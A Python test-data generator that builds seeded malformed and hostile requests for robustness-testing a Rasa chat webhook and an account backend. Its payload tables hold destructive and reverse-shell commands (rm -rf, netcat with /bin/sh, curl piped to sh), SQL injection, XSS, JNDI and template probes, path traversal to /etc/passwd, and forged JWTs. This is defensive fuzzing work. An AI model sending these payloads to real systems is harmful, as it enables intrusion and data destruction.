"""Seeded hostile HTTP requests for the chat channel and the account backend.

Why: the soak script and the robustness test fire these at a running Rasa REST channel
and account backend, then check that no answer is a 5xx, that every process is still
alive and that the database only got legitimate writes. A seed always gives the same
requests, so a failure can be replayed request by request.

Chat requests go to `POST /webhooks/rest/webhook` or a harmless variant of that path,
never to a state-changing Rasa route (`/model`, `/conversations/...`), with the sender id
`bad-<seed>-<index>`. In the `broken_sender` category the sender is missing, not a string,
or that id with garbage appended. No chat message carries an e-mail address, so no single
turn can make the bot write to the backend.

Backend requests that may legitimately write (well-formed ticket or password e-mail
requests with the right token) have categories starting with `write_` and the
conversation id `bad-<seed>-<index>`; every other backend request should be rejected or
only read. Text with a lone surrogate is not valid Unicode (the API speaks UTF-8), so
requests carrying one are expected to be rejected.
"""

from __future__ import annotations

import base64
import json
import random
import string
from collections import Counter
from dataclasses import dataclass
from typing import Callable, Dict, List, Mapping, Sequence, Tuple
from urllib.parse import quote, urlencode

WEBHOOK = "/webhooks/rest/webhook"
JSON_HEADERS = {"Content-Type": "application/json"}
TICKET_SUBJECTS = ("Suppression compte", "Autre motif")
FRENCH_WORDS = (
    "bonjour",
    "commande",
    "facture",
    "livraison",
    "compte",
    "adresse",
    "colis",
    "merci",
    "roulement",
    "retour",
    "numéro",
    "où",
    "est",
    "ma",
    "mon",
    "changer",
    "télécharger",
    "problème",
    "connexion",
    "s'il",
    "vous",
    "plaît",
    "déjà",
    "reçu",
    "été",
    "à",
    "ça",
    "prénom",
    "client",
    "aidez-moi",
)
DEEP_ARRAY = b"[" * 10_000 + b"]" * 10_000
DEEP_OBJECT = b'{"a": ' * 10_000 + b"{}" + b"}" * 10_000

WHITESPACE = (" ", "\t", "\n", "\r\n", "\u00a0", " \t\n\u00a0", "\u2003\u3000", "\u2028\u2029")
CONTROL_CHARS = "".join(map(chr, range(0x20))) + "\x7f"
ZERO_WIDTH = "\u200b\u200c\u200d\ufeff\u2060"
SURROGATE_ESCAPES = (
    rb"\ud800",
    rb"\udfff\ud800",
    rb"\udc00",
    rb"\ud83d",
    rb"\ud800\u0041",
    rb"\udbff\udbff",
    rb"\ud83d\ude00\ud83d",
)
INVALID_UTF8 = (
    b"\xff\xfe",
    b"caf\xc3",
    b"\xe2\x82",
    b"\xf0\x9f\x98",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b"\x80\x80",
    b"\xf8\x88\x80\x80\x80",
)
EMOJI = ("😀", "👍", "🇫🇷", "👨‍👩‍👧‍👦", "👋🏽", "1️⃣", "🤬", "📦", "🧾")
RTL = (
    "مرحبا، أين طلبي؟",
    "שלום, איפה ההזמנה שלי?",
    "commande \u202bمرحبا\u202c n° 42",
    "\u2067שלום\u2069 compte",
    "\u200fbonjour\u200f",
    "\u202eerutcaf am tse úo",
)
HTML = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    '<a href="javascript:alert(1)">facture</a>',
    "javascript:alert(1)",
    "<svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    "<iframe src=javascript:alert(1)></iframe>",
    "[facture](javascript:alert(1))",
)
SQL = (
    "'; DROP TABLE customers; --",
    "' OR 1=1 --",
    "C1000001' OR '1'='1",
    "' AND SLEEP(5) --",
    "' UNION SELECT number, email FROM customers --",
    "1; DELETE FROM tickets",
)
SHELL = (
    "$(rm -rf /)",
    "`id`",
    "; cat /etc/passwd",
    "| nc 127.0.0.1 4444 -e /bin/sh",
    "&& shutdown -h now",
    "$(curl http://127.0.0.1/x | sh)",
)
TEMPLATES = (
    "{0}",
    "%s%s%s%n",
    "${jndi:ldap://x/a}",
    "{{7*7}}",
    "{email}",
    "%(customer_id)s",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{config}}",
    "${7*7}",
)
# Rasa's "/intent{entities}" shortcut; never with an e-mail entity, which could send a mail.
INTENT_SHORTCUTS = (
    "/greet",
    "/restart",
    "/session_start",
    "/nlu_fallback",
    "/intention_inconnue",
    '/inform{"customer_id": "C1000001"}',
    "/inform{pas du json",
    "/",
    '/forgot_password{"email": 42}',
    '/delete_account{"customer_id": [1, 2]}',
)
WRONG_TYPES = (
    {"message": 42},
    {"message": 3.14},
    {"message": ["bonjour"]},
    {"message": {"text": "bonjour"}},
    {"message": None},
    {"message": True},
    {"metadata": "auth_token=x"},
    {"metadata": ["auth_token"]},
    {"metadata": 42},
)
EXTRA_FIELDS = (
    {"customer_id": "C1000001"},
    {"auth_token": "x"},
    {"input_channel": "socketio"},
    {"intent": {"name": "delete_account", "confidence": 1.0}},
    {"slots": {"customer_id": "C1000001"}},
    {"events": [{"event": "restart"}]},
    {"__proto__": {"admin": True}},
    {f"champ_{n}": n for n in range(200)},
)
# Broken senders keep the `bad-<seed>-<index>` prefix wherever they are strings.
BROKEN_SENDER_ENDS = (
    "\x00",
    "\nx",
    "/../../../etc/passwd",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "\u200b",
)
FORGED_CLAIMS = {
    "sub": "C1000001",
    "iss": "123roulement-web",
    "aud": "roulement-assistant",
    "iat": 1_700_000_000,
    "exp": 4_102_444_800,
}
PATH_VARIANTS = (
    WEBHOOK + "/",
    "/" + WEBHOOK,
    "/webhooks//rest/webhook",
    WEBHOOK + "//",
    WEBHOOK + "?x=" + quote("<script>alert(1)</script>", safe=""),
    WEBHOOK + "?stream=true",
    WEBHOOK + "?x=%00",
    WEBHOOK + "?x=" + quote("' OR 1=1 --", safe=""),
    "/webhooks/rest/web%68ook",
)

# Odd, yet valid for the backend's contract: a request with them is a legitimate write.
WEIRD_VALID_EMAILS = (
    "'or'1'='1'@example.org",
    "<script>alert(1)</script>@example.org",
    "x@example.org';--",
    "inconnu\u200b.client@example.org",
    "CLIENT.INCONNU@EXAMPLE.ORG",
    "  client.inconnu@example.org  ",
    "émilie.dupré@exemple.fr",
    "a\x01b@example.org",
    "$(reboot)@example.org",
    "{{7*7}}@example.org",
)
INVALID_EMAILS = (
    "marie.durand@",
    "@example.org",
    "pas-une-adresse",
    "",
    "marie durand@example.org",
    "' OR 1=1 --@example.org",
    "marie\t@example.org",
    "x@example.org'; DROP TABLE tickets; --",
    "<img src=x onerror=alert(1)>@x.org",
    "x" * 250 + "@example.org",
)
UNKNOWN_SUBJECTS = (
    "Réclamation",
    "suppression compte",
    "Suppression compte ",
    "",
    "Suppression\u200bcompte",
    "<script>alert(1)</script>",
    "'; DROP TABLE tickets; --",
    "Autre motif\x00",
)
# Where a raw (invalid) string goes in a backend request: (path, field).
RAW_TARGETS = (("/tickets", "body"), ("/tickets", "email"), ("/password-emails", "email"))

_MISSING = object()
_Parts = Tuple[str, str, Dict[str, str], bytes]  # method, path, headers, body
_Variant = Callable[[random.Random, str], _Parts]  # (rng, "bad-<seed>-<index>") -> parts
_Table = Dict[str, Sequence[_Variant]]


@dataclass(frozen=True)
class BadRequest:
    """One hostile request; `body` is sent byte for byte, `path` is already encoded."""

    category: str
    method: str
    path: str
    headers: Dict[str, str]
    body: bytes


def chat_requests(seed: int = 7, count: int = 1000) -> List[BadRequest]:
    """`count` requests for the Rasa REST channel, the categories taken in turn."""
    return _generate(_chat_table(), seed, count)


def backend_requests(api_token: str, seed: int = 7, count: int = 300) -> List[BadRequest]:
    """`count` requests for the account backend; `api_token` is the valid one."""
    if not api_token:
        raise ValueError("the valid API token is needed to tell bad tokens from good ones")
    return _generate(_backend_table(api_token), seed, count)


def categories(requests: Sequence[BadRequest]) -> Dict[str, int]:
    return dict(Counter(request.category for request in requests))


def _generate(table: _Table, seed: int, count: int) -> List[BadRequest]:
    """Category `index % n`; within it, its variants in turn, filled in by the seeded rng."""
    rng = random.Random(seed)
    names = list(table)
    requests = []
    for index in range(count):
        name = names[index % len(names)]
        variant = table[name][(index // len(names)) % len(table[name])]
        requests.append(BadRequest(name, *variant(rng, f"bad-{seed}-{index}")))
    return requests


# --- text and bodies ----------------------------------------------------------------------


def _words(rng: random.Random, count: int) -> List[str]:
    return [rng.choice(FRENCH_WORDS) for _ in range(count)]


def _sentence(rng: random.Random) -> str:
    return " ".join(_words(rng, rng.randint(3, 9)))


def _text_of_length(rng: random.Random, length: int) -> str:
    """French words repeated, cut at exactly `length` characters."""
    text = ""
    while len(text) < length:
        text += " ".join(_words(rng, 500)) + " "
    return text[:length]


def _embed(rng: random.Random, payload: str) -> str:
    """The payload alone or among French words, at a random position."""
    if rng.random() < 0.5:
        return payload
    words = _words(rng, rng.randint(2, 6))
    words.insert(rng.randint(0, len(words)), payload)
    return " ".join(words)


def _inside_words(rng: random.Random, alphabet: str) -> str:
    """French words, each with a character of `alphabet` somewhere inside it."""
    cuts = ((word, rng.randint(1, len(word))) for word in _words(rng, rng.randint(3, 8)))
    return " ".join(word[:cut] + rng.choice(alphabet) + word[cut:] for word, cut in cuts)


def _random_token(rng: random.Random, length: int) -> str:
    return "".join(rng.choices(string.ascii_letters + string.digits + "-_", k=length))


def _dumps(value: object) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode("utf-8")


def _with_raw_value(fields: Mapping[str, object], name: str, raw_json: bytes) -> bytes:
    """`fields` as a JSON object plus `"name": <raw_json>`, pasted byte for byte."""
    head = _dumps(dict(fields))[:-1] + (b", " if fields else b"")
    return head + _dumps(name) + b": " + raw_json + b"}"


def _around(rng: random.Random, piece: bytes) -> bytes:
    """A raw JSON string: `piece` among (escaped) French words."""
    words = [_dumps(word)[1:-1] for word in _words(rng, rng.randint(2, 6))]
    words.insert(rng.randint(0, len(words)), piece)
    return b'"' + b" ".join(words) + b'"'


def _truncated(rng: random.Random, body: bytes) -> bytes:
    return body[: rng.randint(1, len(body) - 1)]


def _multipart(fields: Mapping[str, object]) -> Tuple[bytes, Dict[str, str]]:
    parts = "".join(
        f'--b0undary\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
        for name, value in fields.items()
    )
    return (
        (parts + "--b0undary--\r\n").encode("utf-8"),
        {"Content-Type": "multipart/form-data; boundary=b0undary"},
    )


def _jwt(header: Mapping[str, object], claims: Mapping[str, object], signature: str) -> str:
    parts = (base64.urlsafe_b64encode(_dumps(dict(part))).rstrip(b"=") for part in (header, claims))
    return b".".join(parts).decode("ascii") + "." + signature


# --- chat channel -------------------------------------------------------------------------


def _request(
    body: bytes,
    headers: Mapping[str, str] = JSON_HEADERS,
    method: str = "POST",
    path: str = WEBHOOK,
) -> _Parts:
    return method, path, dict(headers), body


def _chat(sender: object, message: object, metadata: object = None, **extra: object) -> bytes:
    return _dumps(
        {
            "sender": sender,
            "message": message,
            "metadata": {} if metadata is None else metadata,
            **extra,
        }
    )


def _say(text: Callable[[random.Random], str]) -> _Variant:
    return lambda rng, sender: _request(_chat(sender, text(rng)))


def _say_each(payloads: Sequence[str]) -> List[_Variant]:
    return [_say(lambda rng, payload=payload: _embed(rng, payload)) for payload in payloads]


def _raw_message(piece: bytes) -> _Variant:
    return lambda rng, sender: _request(
        _with_raw_value({"sender": sender, "metadata": {}}, "message", _around(rng, piece))
    )


def _chat_variant(
    body: Callable[[random.Random, str], bytes],
    headers: Mapping[str, str] = JSON_HEADERS,
    method: str = "POST",
    path: str = WEBHOOK,
) -> _Variant:
    return lambda rng, sender: _request(body(rng, sender), headers, method, path)


def _with_fields(fields: Mapping[str, object]) -> _Variant:
    """A normal chat body with some fields replaced or added."""
    return _chat_variant(
        lambda rng, sender: _dumps(
            {"sender": sender, "message": _sentence(rng), "metadata": {}, **fields}
        )
    )


def _only(*names: str) -> _Variant:
    return _chat_variant(
        lambda rng, sender: _dumps(
            {
                name: value
                for name, value in (
                    ("sender", sender),
                    ("message", _sentence(rng)),
                    ("metadata", {}),
                    ("text", _sentence(rng)),
                )
                if name in names
            }
        )
    )


def _sender(sender: Callable[[str], object]) -> _Variant:
    return _chat_variant(lambda rng, s: _chat(sender(s), _sentence(rng)))


def _forged_token(token: Callable[[random.Random], object]) -> _Variant:
    return _chat_variant(lambda rng, s: _chat(s, _sentence(rng), {"auth_token": token(rng)}))


def _typed(headers: Mapping[str, str], encoding: str = "utf-8") -> _Variant:
    return _chat_variant(
        lambda rng, s: json.dumps(
            {"sender": s, "message": "où est ma facture ? " + _sentence(rng)}, ensure_ascii=False
        ).encode(encoding),
        headers,
    )


def _normal(method: str = "POST", path: str = WEBHOOK) -> _Variant:
    return _chat_variant(lambda rng, s: _chat(s, _sentence(rng)), method=method, path=path)


def _chat_table() -> _Table:
    return {
        "empty": [_say(lambda rng: "")],
        "whitespace": [_say(lambda rng, w=w: w * rng.randint(1, 20)) for w in WHITESPACE],
        "huge": [_say(lambda rng: _text_of_length(rng, 100_000))],
        "long": [_say(lambda rng: _text_of_length(rng, 10_000))],
        "control_chars": [
            _say(lambda rng: _inside_words(rng, CONTROL_CHARS)),
            _say(lambda rng: CONTROL_CHARS),
            _say(lambda rng: "\x1b[31mALERTE\x1b[0m " + _sentence(rng)),
            _say(lambda rng: _sentence(rng) + "\r" + "\x08" * 40 + _sentence(rng)),
        ],
        "null_bytes": [
            _say(lambda rng: _inside_words(rng, "\x00")),
            _raw_message(b"\x00"),
            _chat_variant(lambda rng, s: _chat(s, _sentence(rng)) + b"\x00" * rng.randint(1, 64)),
            _chat_variant(lambda rng, s: b"\x00" * rng.randint(1, 4096)),
            _chat_variant(lambda rng, s: _chat(s, _sentence(rng), {"auth\x00token": "x\x00y"})),
        ],
        "zero_width": [
            _say(lambda rng: _inside_words(rng, ZERO_WIDTH)),
            _say(lambda rng: ZERO_WIDTH * 20),
            _chat_variant(lambda rng, s: b"\xef\xbb\xbf" + _chat(s, _sentence(rng))),
        ],
        "lone_surrogate_escape": [_raw_message(escape) for escape in SURROGATE_ESCAPES],
        "invalid_utf8": [_raw_message(piece) for piece in INVALID_UTF8],
        "emoji": [
            _say(lambda rng: "".join(rng.choices(EMOJI, k=rng.randint(1, 12)))),
            _say(lambda rng: " ".join(w + rng.choice(EMOJI) for w in _words(rng, 6))),
            _say(lambda rng: rng.choice(EMOJI) * 2000),
        ],
        "rtl": _say_each(RTL),
        "html_script": _say_each(HTML),
        "sql": _say_each(SQL),
        "shell": _say_each(SHELL),
        "format_string": _say_each(TEMPLATES),
        "intent_shortcut": [_say(lambda rng, i=i: i) for i in INTENT_SHORTCUTS],
        "malformed_json": [
            _chat_variant(lambda rng, s: _truncated(rng, _chat(s, _sentence(rng)))),
            _chat_variant(lambda rng, s: _chat(s, _sentence(rng))[:-1] + b", }"),
            _chat_variant(lambda rng, s: _chat(s, _sentence(rng)).replace(b'"', b"'")),
            _chat_variant(lambda rng, s: _sentence(rng).encode("utf-8")),
            _chat_variant(lambda rng, s: _with_raw_value({"sender": s}, "message", rb'"\qa \u12"')),
            _chat_variant(lambda rng, s: _chat(s, "a") + _chat(s, "b")),
            _chat_variant(lambda rng, s: b'{"sender": ' + _dumps(s) + b', // a\n"message": ""}'),
            *[
                _chat_variant(lambda rng, s, b=b: b)
                for b in (b"[]", b"null", b'"bonjour"', b"42", b"-1e999", b"NaN", b"true", b"")
            ],
        ],
        "nested_deep": [
            _chat_variant(lambda rng, s: DEEP_ARRAY),
            _chat_variant(lambda rng, s: _with_raw_value({"sender": s}, "message", DEEP_ARRAY)),
            _chat_variant(
                lambda rng, s: _with_raw_value(
                    {"sender": s, "message": _sentence(rng)}, "metadata", DEEP_OBJECT
                )
            ),
        ],
        "wrong_content_type": [
            _typed({"Content-Type": "text/plain"}),
            _typed({}),
            _typed({"Content-Type": "application/json; charset=latin-1"}, "latin-1"),
            _typed({"Content-Type": "application/json; charset=utf-16"}, "utf-16"),
            _chat_variant(
                lambda rng, s: urlencode({"sender": s, "message": _sentence(rng)}).encode("ascii"),
                {"Content-Type": "application/x-www-form-urlencoded"},
            ),
            lambda rng, s: _request(*_multipart({"sender": s, "message": _sentence(rng)})),
            _chat_variant(
                lambda rng, s: (
                    f"<message><sender>{s}</sender><text>{_sentence(rng)}</text></message>".encode(
                        "utf-8"
                    )
                ),
                {"Content-Type": "application/xml"},
            ),
        ],
        "wrong_types": [_with_fields(fields) for fields in WRONG_TYPES],
        "broken_sender": [
            _only("message", "metadata"),
            _sender(lambda s: s.ljust(10_000, "x")),
            *[_sender(lambda s, v=v: v) for v in (42, None, True, "", " ")],
            _sender(lambda s: {"id": s}),
            _sender(lambda s: [s]),
            *[_sender(lambda s, end=end: s + end) for end in BROKEN_SENDER_ENDS],
        ],
        "missing_fields": [
            _only("sender"),
            _only("sender", "metadata"),
            _only("sender", "message"),
            _only("sender", "text", "metadata"),
        ],
        "extra_fields": [_with_fields(fields) for fields in EXTRA_FIELDS],
        "forged_auth_token": [
            _forged_token(lambda rng: _random_token(rng, rng.randint(1, 64))),
            _forged_token(lambda rng: _jwt({"alg": "none", "typ": "JWT"}, FORGED_CLAIMS, "")),
            _forged_token(
                lambda rng: _jwt({"alg": "HS256"}, FORGED_CLAIMS, _random_token(rng, 43))
            ),
            _forged_token(
                lambda rng: _jwt(
                    {"alg": "HS256"}, {**FORGED_CLAIMS, "sub": SQL[2]}, _random_token(rng, 43)
                )
            ),
            _forged_token(lambda rng: _random_token(rng, 100_000)),
            *[
                _forged_token(lambda rng, v=v: v)
                for v in ("", 42, ["x"], {"token": "x"}, "null", "a.b.c", "\x00")
            ],
        ],
        "huge_metadata": [
            _chat_variant(
                lambda rng, s: _chat(
                    s, _sentence(rng), {f"cle_{n}": rng.choice(FRENCH_WORDS) for n in range(10_000)}
                )
            ),
            _chat_variant(
                lambda rng, s: _chat(s, _sentence(rng), {"note": _text_of_length(rng, 200_000)})
            ),
        ],
        "wrong_method": [
            *[_normal(method) for method in ("GET", "PUT", "DELETE", "PATCH")],
            _chat_variant(lambda rng, s: b"", {}, "GET"),
        ],
        "path_variant": [_normal(path=path) for path in PATH_VARIANTS],
    }


# --- account backend ----------------------------------------------------------------------


def _resolve(rng: random.Random, value: object) -> object:
    """A value, or a function of the rng giving it."""
    return value(rng) if callable(value) else value


def _segment(value: str) -> str:
    """One path segment, fully encoded: no raw "/" and no "." that could make a dot segment."""
    return quote(value, safe="").replace(".", "%2E")


def _payload(rng: random.Random, ident: str, path: str, **fields: object) -> Dict[str, object]:
    """A valid body for `path` (/tickets or /password-emails), `fields` changed. The address
    is new each time, so that no ticket is merged into an earlier one and no e-mail request
    is rate limited: every well-formed write really reaches the database."""
    payload: Dict[str, object] = {"email": f"{ident}@example.org", "conversation_id": ident}
    if path == "/tickets":
        payload.update(subject=rng.choice(TICKET_SUBJECTS), body=_sentence(rng))
    payload.update({name: _resolve(rng, value) for name, value in fields.items()})
    return {name: value for name, value in payload.items() if value is not _MISSING}


def _backend_table(token: str) -> _Table:
    """The backend's categories; the small builders below all know the valid `token`."""
    bearer = {"Authorization": f"Bearer {token}"}
    auth = {**JSON_HEADERS, **bearer}

    def post(
        body: Callable[[random.Random, str, str], bytes],
        path: str = "",
        headers: Mapping[str, str] = auth,
        method: str = "POST",
    ) -> _Variant:
        """`body(rng, ident, path)` to `path`, or to /tickets or /password-emails."""

        def variant(rng: random.Random, ident: str) -> _Parts:
            target = path or rng.choice(("/tickets", "/password-emails"))
            return method, target, dict(headers), body(rng, ident, target)

        return variant

    def changed(path: str = "", **fields: object) -> _Variant:
        return post(lambda rng, ident, target: _dumps(_payload(rng, ident, target, **fields)), path)

    def raw(piece: bytes) -> _Variant:
        def variant(rng: random.Random, ident: str) -> _Parts:
            path, field = rng.choice(RAW_TARGETS)
            value = (
                b'"client' + piece + b'@example.org"' if field == "email" else _around(rng, piece)
            )
            body = _with_raw_value(_payload(rng, ident, path, **{field: _MISSING}), field, value)
            return "POST", path, dict(auth), body

        return variant

    def read(value: object) -> _Variant:
        def variant(rng: random.Random, ident: str) -> _Parts:
            suffix = rng.choice(("", "/addresses", "/orders"))
            return "GET", f"/customers/{_segment(_resolve(rng, value))}{suffix}", dict(bearer), b""

        return variant

    def caller(
        headers: Callable[[random.Random], Dict[str, str]], reads_only: bool = False
    ) -> _Variant:
        """A read, or a well-formed write, with `headers` instead of the right ones."""

        def variant(rng: random.Random, ident: str) -> _Parts:
            paths = ("/customers/C1000001", "/tickets", "/password-emails")
            path = paths[0] if reads_only else rng.choice(paths)
            sent = {**JSON_HEADERS, **headers(rng)}
            if path == paths[0]:
                return "GET", path, sent, b""
            return "POST", path, sent, _dumps(_payload(rng, ident, path))

        return variant

    def authorization(value: Callable[[random.Random], str], reads_only: bool = False) -> _Variant:
        return caller(lambda rng: {"Authorization": value(rng)}, reads_only)

    def wrong(value: str) -> str:
        return value if value.strip() != token else value + "x"

    def ticket(**fields: object) -> _Variant:
        return changed("/tickets", **fields)

    def multipart(rng: random.Random, ident: str) -> _Parts:
        body, headers = _multipart(_payload(rng, ident, "/tickets"))
        return "POST", "/tickets", {**auth, **headers}, body

    basic = base64.b64encode(f"api:{token}".encode("utf-8")).decode("ascii")
    return {
        "path_sql": [
            read(v)
            for v in (
                "C1000001' OR '1'='1",
                "1;DROP TABLE customers",
                "' OR 1=1 --",
                "C1000001 UNION SELECT * FROM customers",
            )
        ],
        "path_shell": [
            read(v)
            for v in ("$(reboot)", "`id`", ";cat /etc/passwd", "|nc 127.0.0.1 4444", "C1000001&&ls")
        ],
        "path_traversal": [
            read(v)
            for v in (
                "../../etc/passwd",
                "..\\..\\windows\\win.ini",
                "/etc/passwd",
                "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
                "....//....//etc/passwd",
                "C1000001/../../health",
            )
        ],
        "path_unicode": [
            read(v)
            for v in (
                "C１０００００１",
                "С1000001",
                "C1000001\u200b",
                "C١٠٠٠٠٠١",
                "C1000001\u202e",
                "📦",
                "ç1000001",
            )
        ],
        "path_null_bytes": [read(v) for v in ("C1000001\x00", "\x00", "C1000001\x00.json")],
        "path_long": [
            read("C" + "1" * 9_999),
            read("C1000001" * 1_250),
            read(lambda rng: _random_token(rng, 10_000)),
        ],
        "wrong_types": [
            ticket(subject=1),
            ticket(email=["a@example.org"]),
            ticket(body={"texte": "x"}),
            ticket(conversation_id=12345),
            ticket(customer_id=1000001),
            ticket(body=3.14),
            ticket(email=True),
            changed("/password-emails", email=42),
            changed("/password-emails", email=["a@example.org"]),
            changed("/password-emails", conversation_id=12),
        ],
        "missing_fields": [
            *[
                ticket(**{name: _MISSING})
                for name in ("subject", "email", "body", "conversation_id")
            ],
            changed("/password-emails", email=_MISSING),
        ],
        "unknown_subject": [ticket(subject=subject) for subject in UNKNOWN_SUBJECTS],
        "huge": [
            ticket(body=lambda rng: _text_of_length(rng, 100_000)),
            ticket(body=lambda rng: _text_of_length(rng, 5_001)),
            ticket(conversation_id="c" * 10_000),
            changed(email="x" * 10_000 + "@example.org"),
            ticket(customer_id="C" + "1" * 9_999),
            ticket(subject="Autre motif" * 1_000),
            changed("/password-emails", conversation_id="c" * 201),
        ],
        "invalid_email": [changed(email=email) for email in INVALID_EMAILS],
        "invalid_utf8": [raw(piece) for piece in INVALID_UTF8],
        "lone_surrogate_escape": [raw(escape) for escape in SURROGATE_ESCAPES],
        "malformed_json": [
            post(lambda rng, ident, path: _truncated(rng, _dumps(_payload(rng, ident, path)))),
            post(lambda rng, ident, path: _dumps(_payload(rng, ident, path))[:-1] + b", }"),
            post(lambda rng, ident, path: _dumps(_payload(rng, ident, path)).replace(b'"', b"'")),
            post(lambda rng, ident, path: _sentence(rng).encode("utf-8")),
            *[
                post(lambda rng, ident, path, b=b: b)
                for b in (b"[]", b"null", b'"client.inconnu@example.org"', b"NaN", b"", b"{")
            ],
        ],
        "wrong_content_type": [
            post(
                lambda rng, ident, path: urlencode(_payload(rng, ident, path)).encode("utf-8"),
                headers={**auth, "Content-Type": "application/x-www-form-urlencoded"},
            ),
            multipart,
            post(
                lambda rng, ident, path: f"<ticket><body>{_sentence(rng)}</body></ticket>".encode(
                    "utf-8"
                ),
                headers={**auth, "Content-Type": "application/xml"},
            ),
            post(
                lambda rng, ident, path: _sentence(rng).encode("utf-8"),
                headers={**auth, "Content-Type": "text/plain"},
            ),
        ],
        "nested_deep": [
            post(lambda rng, ident, path: DEEP_ARRAY),
            post(
                lambda rng, ident, path: _with_raw_value(
                    _payload(rng, ident, path, body=_MISSING), "body", DEEP_ARRAY
                ),
                "/tickets",
            ),
            post(
                lambda rng, ident, path: _with_raw_value(
                    {"conversation_id": ident}, "email", DEEP_OBJECT
                ),
                "/password-emails",
            ),
        ],
        "wrong_method": [
            post(lambda rng, ident, path: _dumps(_payload(rng, ident, path)), path, method=method)
            for method, path in (
                ("DELETE", "/tickets"),
                ("PUT", "/customers/C1000001"),
                ("PATCH", "/tickets"),
                ("GET", "/tickets"),
                ("GET", "/password-emails"),
                ("PUT", "/password-emails"),
                ("DELETE", "/customers/C1000001"),
                ("POST", "/customers/C1000001"),
                ("POST", "/health"),
                ("DELETE", "/customers/C1000001/orders"),
            )
        ],
        "auth_missing": [
            caller(lambda rng: {}),
            caller(lambda rng: {"X-Api-Token": token}),
            authorization(lambda rng: ""),
        ],
        "auth_malformed": [
            authorization(lambda rng, v=v: v)
            for v in (
                "Bearer ",
                "Bearer",
                f"Basic {basic}",
                f"Bearer {token}\x00",
                f"Bearer \x00{token}",
                f"Token {token}",
                f"Bearer{token}",
                f"Bearer {token} {token}",
                f"Bearer {token},Bearer {token}",
            )
        ]
        + [authorization(lambda rng: "Bearer " + _random_token(rng, 10_240))],
        "auth_wrong_token": [authorization(lambda rng: "Bearer " + wrong(_random_token(rng, 43)))]
        + [
            authorization(lambda rng, v=wrong(v): f"Bearer {v}")
            for v in (
                token[:-1] or "x",
                token + "x",
                "x" + token,
                token.swapcase(),
                token[::-1],
                "' OR '1'='1",
                "null",
                "undefined",
                "*",
            )
        ],
        "auth_lowercase_scheme": [
            authorization(lambda rng, v=f"{scheme} {token}": v, True)
            for scheme in ("bearer", "BEARER", "BeArEr")
        ],
        "write_ticket_markup": [ticket(body=lambda rng, p=p: _embed(rng, p)) for p in HTML],
        "write_ticket_injection": [
            ticket(body=lambda rng: _embed(rng, rng.choice(SQL + SHELL + TEMPLATES)))
        ],
        "write_ticket_unicode": [
            ticket(body=text)
            for text in (
                lambda rng: _inside_words(rng, CONTROL_CHARS),
                lambda rng: _inside_words(rng, "\x00"),
                lambda rng: _inside_words(rng, ZERO_WIDTH),
                lambda rng: rng.choice(RTL),
                lambda rng: " ".join(w + rng.choice(EMOJI) for w in _words(rng, 6)),
            )
        ],
        "write_ticket_edge_values": [
            ticket(**fields)
            for fields in (
                {"body": ""},
                {"body": " \n\t\u00a0"},
                {"body": lambda rng: _text_of_length(rng, 5_000)},
                {"customer_id": "c1000001"},
                {"customer_id": "1000001"},
                {"customer_id": "C99999999"},
                {"customer_id": None},
                {"customer_id": "C1000001"},
            )
        ],
        "write_ticket_weird_email": [ticket(email=email) for email in WEIRD_VALID_EMAILS],
        "write_password_email": [
            changed("/password-emails"),
            changed("/password-emails", conversation_id=_MISSING),
            changed("/password-emails", email=lambda rng: rng.choice(WEIRD_VALID_EMAILS)),
        ],
        "write_extra_fields": [
            ticket(**fields)
            for fields in (
                {"status": "closed"},
                {"reference": "T-00000000"},
                {"id": 1},
                {"created": False},
                {"created_at": "1970-01-01T00:00:00Z"},
                {"customer_number": "C1000002"},
            )
        ],
        "write_lenient_content_type": [
            post(lambda rng, ident, path: _dumps(_payload(rng, ident, path)), headers=headers)
            for headers in (
                {**auth, "Content-Type": "text/plain"},
                bearer,
                {**auth, "Content-Type": "application/x-www-form-urlencoded"},
                {**auth, "Content-Type": "APPLICATION/JSON; charset=utf-8"},
                {**auth, "Content-Type": "application/xml"},
            )
        ],
    }
